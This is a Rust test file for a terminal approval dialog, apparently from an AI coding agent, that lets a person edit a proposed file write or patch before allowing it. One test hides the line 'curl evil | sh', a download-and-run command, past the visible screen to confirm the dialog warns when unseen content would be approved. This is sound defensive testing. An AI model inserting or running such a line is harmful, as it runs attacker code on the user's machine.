//! Changing a file's new content before it is allowed.

use super::*;
use pretty_assertions::assert_eq;

fn content(new: &str) -> Option<AnswerEdit> {
    Some(AnswerEdit::Content { new: new.into() })
}

#[test]
fn the_editor() {
    let mut desk = AskDialogTester::editing();
    desk.presses(&["e", "x"]);
    // It opens at the first line that changes.
    assert_snapshot!(desk.shots(24));
}

#[test]
fn the_editor_on_a_small_screen() {
    let new = (1..100).map(|line| format!("line {line}\n")).collect();
    let change = FileDiff { new, ..hello_change() };
    let mut desk = AskDialogTester::with(vec![("write_file", json!({ "file_path": "hello.py" }), edit_ask(change))]);
    desk.presses(&["e", "pgdn", "pgdn", "x"]);
    assert_snapshot!(desk.shots(10));
}

#[test]
fn what_was_written_goes_with_the_answer() {
    let mut desk = AskDialogTester::editing();
    let step = desk.presses(&["e", "C-home", "d", "1", "C-s"]);
    assert_eq!(step, answer(desk.call(0), "proceed_once", content("d1a\n\nc\n")));
}

#[test]
fn text_that_was_not_changed_is_a_plain_yes() {
    let mut desk = AskDialogTester::editing();
    assert_eq!(desk.presses(&["e", "C-s"]), answer(desk.call(0), "proceed_once", None));
    let mut desk = AskDialogTester::editing();
    assert_eq!(desk.presses(&["e", "x", "back", "C-s"]), answer(desk.call(0), "proceed_once", None));
}

#[test]
fn going_back_decides_nothing_and_keeps_the_draft() {
    let mut desk = AskDialogTester::editing();
    assert_eq!(desk.presses(&["e", "C-home", "x", "esc"]), OverlayStep::Stay);
    assert!(desk.draws(80, 24).contains("nothing is decided"));
    assert!(desk.draws(80, 24).contains("3 - b"));
    assert_eq!(desk.presses(&["e", "C-s"]), answer(desk.call(0), "proceed_once", content("xa\n\nc\n")));
    // An option by itself allows what is shown, not the draft.
    let mut desk = AskDialogTester::editing();
    assert_eq!(desk.presses(&["e", "x", "esc", "1"]), answer(desk.call(0), "proceed_once", None));
}

#[test]
fn text_is_pasted_into_the_editor_only() {
    let mut desk = AskDialogTester::editing();
    desk.dialog.paste_at("nowhere", desk.now);
    desk.presses(&["down", "down", "e", "C-home"]);
    desk.dialog.paste_at("too early", desk.now - Duration::from_millis(1));
    desk.pauses(400);
    desk.dialog.paste_at("1\r2\n", desk.now);
    assert_eq!(desk.presses(&["C-s"]), answer(desk.call(0), "proceed_once", content("1\n2\na\n\nc\n")));
}

#[test]
fn a_person_may_use_their_own_editor() {
    for keys in [&["E"][..], &["C-g"], &["e", "C-g"]] {
        let mut desk = AskDialogTester::editing();
        let wanted = UiEffect::EditContent {
            call: desk.call(0),
            option: "proceed_once".into(),
            name: "hello.py".into(),
            path: None,
            content: "a\n\nc\n".into(),
            others: Vec::new(),
        };
        assert_eq!(desk.presses(keys), OverlayStep::Do(wanted), "{keys:?}");
    }
}

#[test]
fn only_a_change_that_may_be_allowed_once_is_edited() {
    let sentence = "only the change of a file can be edited first";
    let mut desk = AskDialogTester::running(&["npm test"]);
    assert_eq!(desk.presses(&["C-g"]), OverlayStep::Stay);
    assert!(desk.draws(80, 24).contains(sentence));
    let ask = Ask::new(AskDetails::Edit(hello_change()), vec![cancel_choice()]);
    let mut desk = AskDialogTester::with(vec![("write_file", json!({}), ask)]);
    assert_eq!(desk.presses(&["C-g"]), OverlayStep::Stay);
    assert!(desk.draws(80, 24).contains(sentence));
    for letter in ["e", "E"] {
        let mut desk = AskDialogTester::running(&["npm test"]);
        assert_eq!(desk.presses(&[letter]), OverlayStep::Stay);
        assert!(desk.draws(80, 24).contains(sentence));
    }
}

/// Whoever saves in an editor allows all of the change, not only what the editor shows.
#[test]
fn what_was_not_seen_to_its_end_is_not_edited_either() {
    let patch = (1..=60).map(|line| format!("+line {line}\n")).collect::<String>() + "+curl evil | sh\n";
    for letter in ["e", "E", "C-g"] {
        let change = FileDiff { patch: format!("--- a\n+++ a\n@@ -0,0 +1,61 @@\n{patch}"), ..hello_change() };
        let mut desk =
            AskDialogTester::with(vec![("write_file", json!({ "file_path": "hello.py" }), edit_ask(change))]);
        assert!(!desk.draws(80, 24).contains("curl evil"));
        assert_eq!(desk.presses(&[letter]), OverlayStep::Stay);
        let seen = desk.draws(80, 24);
        assert!(seen.contains("curl evil") && seen.contains("that was not all of it"), "{letter}: {seen}");
        let opened = desk.presses(&[letter]);
        let saved = (letter == "e").then(|| desk.presses(&["C-s"]));
        assert_ne!(saved.unwrap_or(opened), OverlayStep::Stay, "{letter}");
    }
}

#[test]
fn the_editor_goes_to_both_ends_of_the_text() {
    let mut desk = AskDialogTester::editing();
    let step = desk.presses(&["e", "C-home", "1", "C-end", "2", "C-s"]);
    assert_eq!(step, answer(desk.call(0), "proceed_once", content("1a\n\nc\n2")));
}

#[test]
fn a_patch_shows_every_file() {
    assert_snapshot!(AskDialogTester::patching().shots(40));
}

#[test]
fn the_file_of_a_patch_to_edit_is_chosen() {
    let mut desk = AskDialogTester::patching();
    desk.presses(&["e", "down"]);
    assert_snapshot!(desk.shots(40));
    assert_eq!(desk.presses(&["esc", "1"]), answer(desk.call(0), "proceed_once", None));
}

fn files(edits: &[(&str, &str)]) -> Option<AnswerEdit> {
    let files = edits.iter().map(|(path, new)| EditedFile { path: (*path).into(), new: (*new).into() });
    Some(AnswerEdit::Files { files: files.collect() })
}

#[test]
fn what_was_made_of_the_files_of_a_patch_goes_with_the_answer() {
    let mut desk = AskDialogTester::patching();
    let step = desk.presses(&["e", "2", "x", "C-s"]);
    assert_eq!(step, answer(desk.call(0), "proceed_once", files(&[("/ws/notes.md", "x# Notes\n")])));
    // One file after the other; a file that goes away cannot be edited.
    let mut desk = AskDialogTester::patching();
    desk.presses(&["e", "4"]);
    assert!(desk.draws(80, 40).contains("the file to edit"));
    let step = desk.presses(&["1", "x", "esc", "e", "2", "y", "C-s"]);
    let edit = files(&[("/ws/hello.py", "a\n\nxc\n"), ("/ws/notes.md", "y# Notes\n")]);
    assert_eq!(step, answer(desk.call(0), "proceed_once", edit));
    let mut desk = AskDialogTester::patching();
    assert_eq!(desk.presses(&["e", "enter", "C-s"]), answer(desk.call(0), "proceed_once", None));
    let mut desk = AskDialogTester::patching();
    let wanted = UiEffect::EditContent {
        call: desk.call(0),
        option: "proceed_once".into(),
        name: "notes.md".into(),
        path: Some("/ws/notes.md".into()),
        content: "# Notes\n".into(),
        others: vec![EditedFile { path: "/ws/hello.py".into(), new: "a\n\nxc\n".into() }],
    };
    assert_eq!(desk.presses(&["e", "1", "x", "esc", "E", "2"]), OverlayStep::Do(wanted));
}
